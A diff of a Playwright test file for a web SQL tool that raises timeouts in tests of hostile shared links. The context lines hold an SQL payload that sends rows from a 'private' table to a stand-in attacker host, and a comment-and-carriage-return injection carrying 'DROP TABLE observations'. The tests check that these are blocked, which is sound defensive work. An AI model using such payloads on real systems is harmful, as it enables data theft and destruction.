@@ -118,7 +118,7 @@ const finishedRuns = (page: Page) =>
 async function open(context: BrowserContext, sql: string): Promise<Page> {
 	const { page } = await watch(context);
 	await page.goto(`${base}sql/?${new URLSearchParams({ q: sql })}`);
-	await page.waitForSelector('[data-testid=sql-page][data-ready=true]', { timeout: 30_000 });
+	await page.waitForSelector('[data-testid=sql-page][data-ready=true]', { timeout: 60_000 });
 	await page.waitForSelector('[data-testid=sql-editor][data-ready=true]');
 	return page;
 }
@@ -180,7 +180,7 @@ describe('hostile links', () => {
 		await page.waitForSelector('[data-testid=user-table]');
 		const leak = `CREATE TYPE mine AS ENUM (SELECT secret FROM private); SELECT * FROM read_text('${EVIL()}/' || array_to_string(enum_range(NULL::mine), ','))`;
 		await page.goto(`${base}sql/?${new URLSearchParams({ q: leak })}`);
-		await page.waitForSelector('[data-testid=sql-page][data-ready=true]', { timeout: 30_000 });
+		await page.waitForSelector('[data-testid=sql-page][data-ready=true]', { timeout: 60_000 });
 		await page.waitForSelector('[data-testid=user-table]');
 		expect(await page.textContent('[data-testid=notice]')).toContain(evil.origin.slice(7));
 		await pressRun(page);
@@ -195,7 +195,7 @@ describe('hostile links', () => {
 		const page = await open(context, 'SELECT 1 --\r; DROP TABLE observations; SELECT 2');
 		await pressRun(page);
 		await page.click('header a[href$="explore/"]');
-		await page.waitForSelector('.chart[data-live=true] svg', { timeout: 30_000 });
+		await page.waitForSelector('.chart[data-live=true] svg', { timeout: 60_000 });
 		expect(await page.locator('.chart[data-live=true] svg').count()).toBeGreaterThan(0);
 		expect(await page.$('[role=alert]')).toBeNull();
 		expect(evil.hits).toEqual([]);
@@ -215,14 +215,14 @@ describe('hostile links', () => {
 		);
 		page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
 		await page.goto(`${base}sql/?${new URLSearchParams({ q: `SELECT * FROM '${url}'` })}`);
-		await page.waitForSelector('[data-testid=sql-page][data-ready=true]', { timeout: 30_000 });
+		await page.waitForSelector('[data-testid=sql-page][data-ready=true]', { timeout: 60_000 });
 		await page.waitForSelector('[data-testid=sql-editor][data-ready=true]');
 		expect(await page.textContent('[data-testid=notice]')).toContain(dataHost.origin.slice(7));
 		expect(await page.inputValue('[data-testid=remote-url]')).toBe(url);
 		expect(dataHost.hits).toEqual([]);
 		await page.fill('[data-testid=remote-table]', 'theirs');
 		await page.click('[data-testid=remote-load]');
-		await page.waitForSelector('[data-testid=remote-report]', { timeout: 30_000 });
+		await page.waitForSelector('[data-testid=remote-report]', { timeout: 60_000 });
 		expect(dataHost.hits.length).toBeGreaterThan(0);
 		await page.locator('.cm-content').fill('SELECT count(*) FROM theirs');
 		await pressRun(page);
